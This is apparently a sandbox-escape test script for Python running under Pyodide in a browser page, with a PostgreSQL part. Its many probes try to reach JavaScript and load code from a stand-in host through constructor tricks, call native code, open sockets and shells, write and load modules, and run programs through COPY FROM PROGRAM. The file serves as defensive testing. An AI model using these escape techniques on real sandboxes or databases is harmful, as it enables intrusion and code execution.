"""Ways out of the page's Python: to JavaScript, to other machine code, to the network.

Run, or checked, in the page by `ways_out.test.ts`, and beside a database by `real_store.test.ts`:
each way is tried, and says what it came to.
"""

import builtins
import contextlib
import gc
import importlib
import io
import sys
import types
from pathlib import Path

OUTSIDE = "http://stranger/"
WAYS = {}
MODULE = b"\0asm\1\0\0\0\0\x0f\x08dylink.0\1\4\0\0\0\0"


def way(function):
    WAYS[function.__name__.replace("_", " ")] = function
    return function


def use(found):
    """Do with an object of JavaScript what would give all of JavaScript."""
    script = f"import('{OUTSIDE}')"
    for attribute in ("constructor", "call", "toString", "then"):
        with contextlib.suppress(Exception):
            getattr(found, attribute).constructor(script)()
            print(f"WAY OUT: {attribute} of {found}")
    return found.constructor.constructor(script)()


def is_foreign(each):
    return type(each).__name__.startswith("Js") or type(each).__module__.startswith("pyodide")


def use_any(all_found):
    """Use whatever of JavaScript is among these; fail if there is none."""
    found = [each for each in all_found if is_foreign(each) and not isinstance(each, type)]
    for each in found:
        with contextlib.suppress(Exception):
            use(each)
            print(f"WAY OUT: {each}")
    raise LookupError(f"{len(found)} found, and none is of use")


def frames():
    frame = sys._getframe()
    while frame:
        yield frame
        frame = frame.f_back


def everything():
    gc.unfreeze()  # what was there when the memory was kept
    found = {id(each): each for each in gc.get_objects()}
    waiting = list(found.values())
    while waiting:
        for each in gc.get_referents(waiting.pop()):
            if id(each) not in found:
                found[id(each)] = each
                waiting.append(each)
    return list(found.values())


def functions_of_the_bridge(*names):
    core = [each for each in everything() if isinstance(each, types.BuiltinFunctionType)]
    return [each for each in core if each.__name__ in names and "pyodide" in str(each.__module__)]


@way
def locals_of_callers():
    use_any([value for frame in frames() for value in dict(frame.f_locals).values()])


@way
def globals_of_callers():
    use_any([value for frame in frames() for value in dict(frame.f_globals).values()])


@way
def builtins_of_callers():
    use_any([value for frame in frames() for value in dict(frame.f_builtins).values()])


@way
def emit_of_a_caller():
    for frame in frames():
        for name in ("emit", "on_row", "on_progress"):
            if name in frame.f_locals:
                use(frame.f_locals[name])
    raise LookupError("there is none")


@way
def what_emit_holds():
    emits = [frame.f_locals["emit"] for frame in frames() if "emit" in frame.f_locals]
    use_any([cell.cell_contents for emit in emits for cell in emit.__closure__ or ()])


@way
def traceback_of_an_error():
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
        use_any(list(frame.f_back.f_locals.values()) + list(frame.f_globals.values()))


@way
def garbage_collector():
    use_any(everything())


@way
def loaded_modules():
    use_any([*sys.modules.values(), *(v for m in sys.modules.values() for v in vars(m).values())])


@way
def subclasses():
    waiting, found = [object], []
    while waiting:
        kind = waiting.pop()
        with contextlib.suppress(TypeError):
            waiting += type.__subclasses__(kind)
            found.append(kind)
    foreign = [kind for kind in set(found) if type.__repr__(kind).startswith("<class 'pyodide.")]
    for kind in foreign:
        with contextlib.suppress(Exception):
            use(kind.__new__(kind))
    raise LookupError(f"{len(foreign)} classes, and none is of use")


@way
def streams():
    streams = [sys.stdin, sys.stdout, sys.stderr, sys.__stdout__]
    use_any([getattr(each, "buffer", each) for each in streams] + streams)


@way
def import_js():
    use(importlib.import_module("js"))


@way
def import_pyodide_js():
    use(importlib.import_module("pyodide_js"))


@way
def import_run_js():
    importlib.import_module("pyodide.code").run_js("self")


@way
def import_to_js():
    use(importlib.import_module("pyodide.ffi").to_js([1]))


@way
def import_the_core():
    use(importlib.import_module("_pyodide_core").to_js([1]))


@way
def create_the_core():
    import _imp

    spec = importlib.machinery.ModuleSpec("_pyodide_core", None)
    use(_imp.create_builtin(spec).to_js([1]))


@way
def import_without_finders():
    del sys.meta_path[:1]
    use(importlib.import_module("pyodide.ffi").to_js([1]))


@way
def import_of_the_http_client():
    importlib.import_module("pyodide.http").open_url(OUTSIDE)


@way
def to_js_of_the_core():
    made = [function([1]) for function in functions_of_the_bridge("to_js")]
    use_any(made)


@way
def create_proxy_of_the_core():
    use_any([each(print) for each in functions_of_the_bridge("create_proxy")])


@way
def create_once_callable_of_the_core():
    use_any([each(print) for each in functions_of_the_bridge("create_once_callable")])


@way
def run_sync_of_the_core():
    for function in functions_of_the_bridge("run_sync"):
        function(None)
    raise LookupError("there is none, or it did nothing")


@way
def error_of_javascript():
    waiting, found = [BaseException], []
    while waiting:
        waiting += waiting.pop().__subclasses__()
        found += [each for each in waiting if each.__name__ in ("JsException", "InternalError")]
    use_any([kind("Error", "message", "stack") for kind in set(found)])


@way
def modules_before_they_were_removed():
    names = ("js", "pyodide_js", "pyodide", "_pyodide", "_pyodide_core")
    modules = [each for each in everything() if isinstance(each, types.ModuleType)]
    of_bridge = [each for each in modules if each.__name__.partition(".")[0] in names]
    use_any([value for each in of_bridge for value in vars(each).values()])


@way
def finder_of_javascript():
    finders = [each for each in everything() if type(each).__name__ == "JsFinder"]
    use_any([value for each in finders for value in each.jsproxies.values()])


@way
def event_loop():
    import asyncio

    loops = [each for each in everything() if type(each).__name__ == "WebLoop"]
    for loop in loops:
        loop.call_soon(print, "WAY OUT: the loop")
    asyncio.new_event_loop().call_soon(print)


@way
def machine_code_of_the_core():
    import ctypes

    ctypes.CDLL(None).emscripten_run_script(b"self")


@way
def the_module_of_machine_code():
    import _ctypes

    _ctypes.dlopen(None, 0)


@way
def machine_code_from_a_file():
    import _imp

    code = io.FileIO("/tmp/mine.so", "w")
    code.write(MODULE)
    code.close()
    spec = importlib.machinery.ModuleSpec("mine", None, origin="/tmp/mine.so")
    _imp.create_dynamic(spec)


@way
def shell():
    import os

    if os.system("true") != 0:
        raise OSError("there is no shell")


@way
def process():
    import subprocess

    subprocess.run(["true"], check=True)


@way
def socket():
    import socket

    socket.create_connection(("127.0.0.1", 80), timeout=1)


@way
def url():
    import urllib.request

    urllib.request.urlopen(OUTSIDE, timeout=1)


@way
def http_client():
    import http.client

    http.client.HTTPConnection("127.0.0.1", 80, timeout=1).request("GET", "/")


@way
def package_installer():
    importlib.import_module("micropip").install("anything")


@way
def device_of_events():
    Path("/dev/events").write_text("{}")


# Those that begin with the connection to a database: where there is none, no way begins.
def the_connection():
    found = [frame.f_locals["connection"] for frame in frames() if "connection" in frame.f_locals]
    found[-1].execute("SELECT 1")  # it is one
    return found[-1]


@way
def what_the_connection_holds():
    held, waiting = {}, [the_connection()]
    while waiting:
        for each in gc.get_referents(waiting.pop()):
            if id(each) not in held:
                held[id(each)] = each
                waiting.append(each)
    assert len(held) > 10
    use_any(held.values())


@way
def a_question_that_is_none():
    the_connection()._ask("self")


@way
def a_statement_that_is_no_text():
    the_connection()._ask('{"statement": {"constructor": 1}, "parameters": [["a", {}]]}')


@way
def device_of_the_database():
    Path("/dev/postgresql").read_text()


@way
def machine_code_in_a_file_of_postgresql():
    connection = the_connection()
    (number,) = connection.execute(
        "SELECT lo_from_bytea(0, decode(%s, 'hex'))", (MODULE.hex(),)
    ).fetchone()
    connection.execute("SELECT lo_export(%s, '/tmp/mine.so')", (number,))
    written = connection.execute("SELECT length(pg_read_binary_file('/tmp/mine.so'))").fetchone()
    assert written == (len(MODULE),)
    try:
        connection.execute("LOAD '/tmp/mine.so'")
    except Exception as error:
        if "magic" not in str(error):  # which PostgreSQL looks for once it has loaded the file
            raise


@way
def machine_code_that_postgresql_brings_along():
    the_connection().execute("LOAD 'pgoutput'")


@way
def another_server():
    the_connection().execute("CREATE EXTENSION dblink")


@way
def a_program():
    connection = the_connection()
    connection.execute("CREATE TABLE said (line text)")
    connection.execute("COPY said FROM PROGRAM 'echo here'")
    if not connection.execute("SELECT line FROM said").fetchall():
        raise LookupError("no program has run")


def try_all():
    for name, function in WAYS.items():
        try:
            function()
            print(f"WAY OUT: {name}")
        except BaseException as error:
            said = f"{builtins.type(error).__name__}: {error}"
            print(f"no way: {name}: {said[:100]}")
    print(f"tried {len(WAYS)} ways")


try_all()
